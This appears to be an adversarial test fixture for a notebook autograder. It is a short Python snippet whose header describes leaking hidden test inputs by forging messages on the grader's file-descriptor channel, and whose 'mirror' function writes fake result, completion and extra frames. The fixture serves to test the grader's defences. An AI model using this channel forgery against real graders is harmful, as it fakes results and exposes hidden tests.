# /// attack
# tries = "Sends the inputs of hidden tests as the result of a second run of the notebook."
# threats = ["secrets.inputs", "channel.forged", "channel.unasked"]
# ///

# %% use="honest: double kernel shrink"

# %%
import os
import struct

from autograder.wire import codec


def send(body):
    os.write(3, struct.pack(">Q", len(body)) + body)


def mirror(word):
    shown = [{"output_type": "stream", "name": "stdout", "text": word}]
    send(b"R" + codec.encode([{"ok": True, "seconds": 0.0, "outputs": shown}] * 4))
    send(b"C" + bytes(4))
    send(b"X" + word.encode())
    return word[::-1]
